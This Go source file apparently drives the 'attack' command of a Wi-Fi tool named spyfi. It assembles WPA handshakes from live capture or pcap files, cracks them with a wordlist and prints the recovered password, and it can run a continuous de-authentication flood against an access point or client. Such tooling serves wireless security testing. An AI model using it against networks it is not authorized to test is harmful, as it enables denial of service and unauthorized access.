package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"time"

	"spyfi/internal/adapters/codec"
	"spyfi/internal/adapters/sniffer/pcapfile"
	"spyfi/internal/adapters/sniffer/radio"
	"spyfi/internal/config"
	"spyfi/internal/core/attack"
	"spyfi/internal/core/attack/wordlist"
	"spyfi/internal/core/audit"
	"spyfi/internal/core/control"
	"spyfi/internal/core/domain"
	"spyfi/internal/core/monitor"
	"spyfi/internal/core/registry"
)

// runAttack implements `spyfi attack`: dictionary cracking against a
// captured handshake, or a de-authentication flood, per spec §6.
func runAttack(ctx context.Context, args []string) int {
	fs := flag.NewFlagSet("attack", flag.ContinueOnError)
	var (
		attackType   string
		bssidStr     string
		iface        string
		captureFile  string
		ssid         string
		threads      int
		targetStr    string
		wordlistPath string
		sweep        bool
	)
	fs.StringVar(&attackType, "type", "", "dict or dos")
	fs.StringVar(&bssidStr, "bssid", "", "target BSSID")
	fs.StringVar(&bssidStr, "b", "", "alias for --bssid")
	fs.StringVar(&iface, "iface", "", "live-capture source interface")
	fs.StringVar(&iface, "i", "", "alias for --iface")
	fs.StringVar(&captureFile, "capture", "", "pcap file source")
	fs.StringVar(&captureFile, "c", "", "alias for --capture")
	fs.StringVar(&ssid, "ssid", "", "network SSID")
	fs.StringVar(&ssid, "s", "", "alias for --ssid")
	fs.IntVar(&threads, "threads", 1, "worker thread count (1..200)")
	fs.IntVar(&threads, "t", 1, "alias for --threads")
	fs.StringVar(&targetStr, "target", "", "client MAC to focus de-auth on")
	fs.StringVar(&wordlistPath, "wordlist", "", "wordlist file, or '#phone <prefix>'")
	fs.BoolVar(&sweep, "sweep", false, "enable channel sweeping while waiting for a handshake")
	cfg := config.Load(fs)
	if err := fs.Parse(args); err != nil {
		return exitBadArgs
	}

	if attackType != "dict" && attackType != "dos" {
		return argError("--type must be 'dict' or 'dos'")
	}
	if bssidStr == "" {
		return argError("--bssid is required")
	}
	bssid, err := domain.ParseMac(bssidStr)
	if err != nil {
		return argError("invalid --bssid: %v", err)
	}
	if iface == "" && captureFile == "" {
		return argError("--source requires -i|--iface or -c|--capture")
	}
	if attackType == "dict" && wordlistPath == "" {
		return argError("--type dict requires --wordlist")
	}
	if attackType == "dos" && iface == "" {
		return argError("--type dos requires --iface")
	}
	if threads < 1 || threads > 200 {
		return argError("--threads must be in 1..200")
	}
	var target *domain.Mac
	if targetStr != "" {
		t, err := domain.ParseMac(targetStr)
		if err != nil {
			return argError("invalid --target: %v", err)
		}
		target = &t
	}

	store, auditSvc := openAudit(cfg.DBPath)
	if store != nil {
		defer store.Close()
	}

	if attackType == "dos" {
		return runDeauthFlood(ctx, iface, bssid, target, sweep, auditSvc)
	}
	return runDictionaryAttack(ctx, iface, captureFile, bssid, ssid, threads, wordlistPath, sweep, auditSvc, cfg.ArchiveDir)
}

// runDeauthFlood drives the Monitor Loop solely to keep issuing Deauth
// commands against bssid/target until the process is interrupted.
func runDeauthFlood(ctx context.Context, iface string, bssid domain.Mac, target *domain.Mac, sweep bool, auditSvc *audit.Service) int {
	r := radio.New()
	idx := registry.NewIndex()
	bus := control.NewBus(16)

	loop, err := monitor.New(r, iface, idx, bus, "")
	if err != nil {
		return runtimeError(err)
	}
	if sweep {
		bus.MonitorCommands <- control.SweepCommand{}
	}
	go loop.Run()

	ticker := time.NewTicker(2 * time.Second)
	defer ticker.Stop()
	for {
		select {
		case <-ctx.Done():
			bus.MonitorCommands <- control.EndCommand{}
			return exitOK
		case <-ticker.C:
			bus.MonitorCommands <- control.DeauthCommand{Bssid: bssid, Client: target}
			if auditSvc != nil {
				auditSvc.Log(ctx, domain.ActionDeauthSent, bssid.String(), "dos")
			}
		case ev := <-bus.MonitorEvents:
			if pe, ok := ev.(control.PermissionEvent); ok {
				return runtimeError(pe.Err)
			}
		}
	}
}

// runDictionaryAttack assembles a handshake for bssid from either a live
// interface or an offline pcap file, then drives the Attack Coordinator
// against it.
func runDictionaryAttack(ctx context.Context, iface, captureFile string, bssid domain.Mac, ssid string, threads int, wordlistPath string, sweep bool, auditSvc *audit.Service, archiveDir string) int {
	idx := registry.NewIndex()

	var hs *domain.Handshake
	var err error
	if captureFile != "" {
		hs, err = assembleFromFile(captureFile, idx, bssid)
	} else {
		hs, err = assembleFromLive(ctx, iface, idx, bssid, sweep, archiveDir)
	}
	if err != nil {
		return runtimeError(err)
	}
	if hs == nil {
		return runtimeError(fmt.Errorf("no handshake captured for %s", bssid))
	}
	if ssid != "" {
		hs.Ssid = ssid
	}

	src, err := wordlist.Open(wordlistPath)
	if err != nil {
		return runtimeError(err)
	}
	defer src.Close()

	info, err := domain.NewAttackInfo(*hs, wordlistPath, threads)
	if err != nil {
		return runtimeError(err)
	}
	info.SizeOfWordlist = src.Size()

	bus := control.NewBus(16)
	coord := attack.NewCoordinator(bus, info, src)

	if auditSvc != nil {
		auditSvc.Log(ctx, domain.ActionAttackStart, bssid.String(), fmt.Sprintf("session=%s wordlist=%s", info.SessionID, wordlistPath))
	}

	done := make(chan struct{})
	go func() {
		coord.Run()
		close(done)
	}()

	for {
		select {
		case <-ctx.Done():
			bus.AttackCommands <- control.AbortCommand{}
			if auditSvc != nil {
				auditSvc.Log(ctx, domain.ActionAttackAbort, bssid.String(), "")
			}
			<-done
			return exitOK
		case <-done:
			return exitOK
		case ev := <-bus.AttackEvents:
			switch e := ev.(type) {
			case control.ProgressEvent:
				fmt.Printf("\rattempts=%d/%d", e.NumOfAttempts, e.SizeOfWordlist)
			case control.PasswordEvent:
				fmt.Printf("\npassword found: %s\n", e.Password)
				if auditSvc != nil {
					auditSvc.Log(ctx, domain.ActionAttackFound, bssid.String(), e.Password)
				}
				// The coordinator keeps its remaining workers running until
				// it is told to stop; a found password ends the session.
				bus.AttackCommands <- control.AbortCommand{}
			case control.ExhaustedEvent:
				fmt.Println("\nwordlist exhausted, no match")
				if auditSvc != nil {
					auditSvc.Log(ctx, domain.ActionAttackExhausted, bssid.String(), "")
				}
			case control.ErrorEvent:
				return runtimeError(e.Err)
			}
		}
	}
}

// assembleFromFile replays captureFile through the same frame ingest path
// live capture uses, stopping as soon as bssid's handshake is complete.
func assembleFromFile(path string, idx *registry.Index, bssid domain.Mac) (*domain.Handshake, error) {
	src, err := pcapfile.Open(path)
	if err != nil {
		return nil, err
	}
	defer src.Close()

	for {
		raw, err := src.ReadFrame()
		if err != nil {
			break
		}
		ingestRawFrame(idx, raw)
		if n := idx.Get(bssid); n != nil && n.Handshake != nil {
			return n.Handshake, nil
		}
	}
	return nil, nil
}

// ingestRawFrame parses one raw frame and folds it into idx, mirroring
// monitor.Loop.ingest for the offline replay path: there is no radio
// channel state here and the parsed skeleton carries no channel, so
// NetworkInfo.Channel stays at its zero value.
func ingestRawFrame(idx *registry.Index, raw []byte) {
	frame := codec.ParseFrame(raw)
	switch frame.Kind {
	case codec.KindNetwork:
		n := domain.NewNetworkInfo(frame.Network.Bssid)
		n.Ssid = frame.Network.Ssid
		n.Protocol = frame.Network.Protocol
		n.LastFrameKind = frame.Network.FrameKind
		for mac, c := range frame.Network.Clients {
			n.Clients[mac] = c
		}
		idx.Update(n, time.Now())
	case codec.KindEapol:
		if err := idx.AddEapol(frame.Eapol); err != nil {
			log.Printf("attack: eapol assembly: %v", err)
		}
	}
}

// assembleFromLive runs a Monitor Loop on iface until bssid's handshake is
// complete or ctx is cancelled.
func assembleFromLive(ctx context.Context, iface string, idx *registry.Index, bssid domain.Mac, sweep bool, archiveDir string) (*domain.Handshake, error) {
	r := radio.New()
	bus := control.NewBus(16)

	loop, err := monitor.New(r, iface, idx, bus, archiveDir)
	if err != nil {
		return nil, err
	}
	if sweep {
		bus.MonitorCommands <- control.SweepCommand{}
	}
	go loop.Run()
	defer func() { bus.MonitorCommands <- control.EndCommand{} }()

	for {
		select {
		case <-ctx.Done():
			return nil, nil
		case ev := <-bus.MonitorEvents:
			switch e := ev.(type) {
			case control.SnapshotEvent:
				if n, ok := e.Networks[bssid]; ok && n.Handshake != nil {
					return n.Handshake, nil
				}
			case control.PermissionEvent:
				return nil, e.Err
			case control.MonitorEndedEvent:
				return nil, nil
			}
		}
	}
}

